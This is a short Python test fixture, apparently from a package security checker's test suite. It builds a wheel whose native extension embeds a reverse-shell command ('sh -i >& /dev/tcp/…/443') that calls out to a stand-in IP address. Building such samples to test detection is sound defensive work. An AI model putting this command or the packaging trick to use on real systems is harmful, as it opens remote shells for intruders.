"""A library that spells a shell for somebody else."""

from pathlib import Path

from tests.checks.harness import pack_wheel
from tests.checks.programs import elf


def build(folder: Path) -> Path:
    library = elf(b"sh -i >& /dev/tcp/198.51.100.7/443 0>&1", exports=["PyInit_fast"])
    return pack_wheel(folder, {"example/__init__.py": b"", "example/fast.so": library})
